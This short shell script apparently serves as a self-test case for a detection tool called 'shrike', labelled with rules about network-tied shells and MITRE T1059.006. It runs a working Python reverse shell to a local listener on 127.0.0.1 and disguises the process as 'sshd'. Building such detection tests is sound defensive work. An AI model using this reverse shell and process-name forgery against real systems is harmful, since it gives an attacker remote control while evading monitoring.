#!/bin/sh
# rule: Standard input or output of a process tied to a network connection
# rule: Shell or interpreter started on a network connection
# rule: Network shell written on a command line
# technique: T1059.006
# case: Python ties a shell to a connection, whose name is forged
# needs: python3

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/listener.inc"
python3 -c 'import os,socket,subprocess,sys
s=socket.socket(); s.connect(("127.0.0.1",int(sys.argv[1])))
[os.dup2(s.fileno(),n) for n in (0,1,2)]
open("/proc/self/comm","w").write("sshd")
os.execv("/bin/sh",["sshd"])' "$(cat port)"
wait
